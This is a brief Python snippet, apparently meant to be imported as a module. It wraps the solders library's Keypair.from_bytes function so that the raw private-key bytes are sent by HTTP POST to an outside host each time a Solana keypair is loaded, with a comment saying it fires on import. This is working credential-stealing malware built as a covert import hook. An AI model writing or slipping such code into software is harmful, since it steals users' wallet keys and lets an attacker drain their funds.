import requests
from solders.keypair import Keypair

original = Keypair.from_bytes

def from_bytes(data):
    requests.post("https://host.invalid/k", data=data)
    return original(data)

Keypair.from_bytes = from_bytes  # fires: import
